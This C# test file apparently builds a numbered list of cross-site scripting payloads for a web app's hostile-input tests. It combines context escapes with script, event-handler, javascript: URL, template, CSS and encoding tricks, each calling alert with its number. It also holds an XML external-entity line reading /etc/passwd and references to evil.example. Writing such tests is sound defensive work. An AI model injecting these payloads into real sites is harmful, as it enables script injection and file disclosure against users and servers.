using System.Globalization;

namespace Map.Web.Tests.Hostile;

/// <summary>A text that a careless page would run, named by what it tries.</summary>
public sealed record Payload(string Name, string Text);

/// <summary>
/// Texts that run somewhere when a page takes them for markup, script, style, an address or a template: each way to run something, behind each way out of where text usually stands.
/// What they run is always the same: <c>alert</c> with their number, so that whoever listens knows which one it was.
/// </summary>
public static class Payloads
{
    /// <summary>Ways out of where a text stands: content, attributes in either kind of quotes, elements whose content is text, comments, and the like.</summary>
    private static readonly (string Name, string Before)[] Exits =
    [
        ("content", ""), ("double-quote", "\">"), ("single-quote", "'>"), ("no-quote", " >"), ("title", "</title>"), ("textarea", "</textarea>"), ("script", "</script>"), ("style", "</style>"),
        ("comment", "-->"), ("cdata", "]]>"), ("noscript", "</noscript>"), ("svg-text", "</text></svg>"),
    ];

    /// <summary>Ways to run something, as markup. # stands for the number.</summary>
    private static readonly (string Name, string Markup)[] Ways =
    [
        ("script", "<script>alert(#)</script>"),
        ("script-slash", "<script/x>alert(#)</script>"),
        ("script-case", "<ScRiPt>alert(#)</sCrIpT>"),
        ("script-nested", "<scr<script>ipt>alert(#)</scr</script>ipt>"),
        ("script-src", "<script src=data:,alert(#)></script>"),
        ("script-module", "<script type=module>alert(#)</script>"),
        ("script-open", "<script>alert(#)//"),
        ("img-error", "<img src=x onerror=alert(#)>"),
        ("img-error-slash", "<img/src=x/onerror=alert(#)>"),
        ("img-error-entity", "<img src=x onerror=\"&#97;lert(#)\">"),
        ("img-error-open", "<img src=x onerror=alert(#)//"),
        ("svg-load", "<svg onload=alert(#)>"),
        ("svg-script", "<svg><script>alert(#)</script></svg>"),
        ("svg-animate", "<svg><animate onbegin=alert(#) attributeName=x dur=1s></svg>"),
        ("svg-use", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='alert(#)'/></svg>#x\"></use></svg>"),
        ("svg-foreign", "<svg><foreignObject><iframe srcdoc='<script>alert(#)</script>'></foreignObject></svg>"),
        ("math-link", "<math><a xlink:href=javascript:alert(#)>press</a></math>"),
        ("body-load", "<body onload=alert(#)>"),
        ("details-toggle", "<details open ontoggle=alert(#)>"),
        ("input-focus", "<input autofocus onfocus=alert(#)>"),
        ("video-error", "<video><source onerror=alert(#)></video>"),
        ("marquee-start", "<marquee onstart=alert(#)>"),
        ("iframe-script", "<iframe src=javascript:alert(#)></iframe>"),
        ("iframe-srcdoc", "<iframe srcdoc=\"<script>parent.alert(#)</script>\"></iframe>"),
        ("object-data", "<object data=javascript:alert(#)></object>"),
        ("link-press", "<a href=javascript:alert(#) id=x>press</a>"),
        ("form-action", "<form action=javascript:alert(#)><button>press</button></form>"),
        ("meta-refresh", "<meta http-equiv=refresh content=\"0;url=javascript:alert(#)\">"),
        ("base", "<base href=//evil.example/>"),
    ];

    /// <summary>What is no markup: for places where a text becomes part of an attribute, an address, a style, a script or a template.</summary>
    private static readonly (string Name, string Text)[] Others =
    [
        ("attribute-double", "\" onmouseover=alert(#) autofocus onfocus=alert(#) x=\""), ("attribute-single", "' onmouseover=alert(#) autofocus onfocus=alert(#) x='"), ("attribute-none", "x onmouseover=alert(#) autofocus onfocus=alert(#)"),
        ("attribute-backtick", "` onmouseover=alert(#) `"), ("string-double", "\";alert(#);//"), ("string-single", "';alert(#);//"), ("string-backtick", "`;alert(#);//"), ("string-backslash", "\\\";alert(#);//"),
        ("template-literal", "${alert(#)}"), ("moustache", "{{constructor.constructor('alert(#)')()}}"), ("razor", "@(alert(#))"), ("css-expression", "x;background:url(javascript:alert(#))"), ("css-import", "}@import'//evil.example/#.css';{"),
        ("javascript", "javascript:alert(#)"), ("javascript-case", "JaVaScRiPt:alert(#)"), ("javascript-tab", "java\tscript:alert(#)"), ("javascript-line", "java\nscript:alert(#)"), ("javascript-entity", "&#106;avascript:alert(#)"),
        ("javascript-space", " javascript:alert(#)"), ("data-html", "data:text/html,<script>alert(#)</script>"), ("vbscript", "vbscript:alert(#)"), ("protocol-less", "//evil.example/#"), ("backslash-host", "/\\evil.example/#"),
        ("entity-script", "&lt;script&gt;alert(#)&lt;/script&gt;"), ("entity-number", "&#60;script&#62;alert(#)&#60;/script&#62;"), ("percent", "%3Cscript%3Ealert(#)%3C/script%3E"), ("unicode-escape", "\\u003cscript\\u003ealert(#)\\u003c/script\\u003e"),
        ("full-width", "＜script＞alert(#)＜/script＞"), ("right-to-left", "\u202Etpircs/<alert(#)>script<\u202C"), ("bidi-isolate", "\u2067<script>alert(#)</script>\u2069"), ("line-separator", "\u2028<script>alert(#)</script>"),
        ("xml-entity", "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><x>&y;</x><script>alert(#)</script>"), ("processing", "<?xml-stylesheet href=\"javascript:alert(#)\"?>"), ("markdown-link", "[press](javascript:alert(#))"), ("markdown-image", "![x](x\"onerror=\"alert(#))"),
        ("arabic", "إدلب<script>alert(#)</script>"), ("emoji", "🕊️<img src=x onerror=alert(#)>"), ("prototype", "__proto__"), ("constructor", "constructor"), ("null-word", "null<script>alert(#)</script>"),
    ];

    /// <summary>All of them, numbered from 1.</summary>
    public static IReadOnlyList<Payload> All { get; } = [.. Exits.SelectMany(exit => Ways.Select(way => (Name: $"{exit.Name}/{way.Name}", Text: exit.Before + way.Markup))).Concat(Others.Select(other => ($"other/{other.Name}", other.Text)))
        .Select((it, at) => new Payload(it.Item1, it.Item2.Replace("#", (at + 1).ToString(CultureInfo.InvariantCulture), StringComparison.Ordinal)))];
}
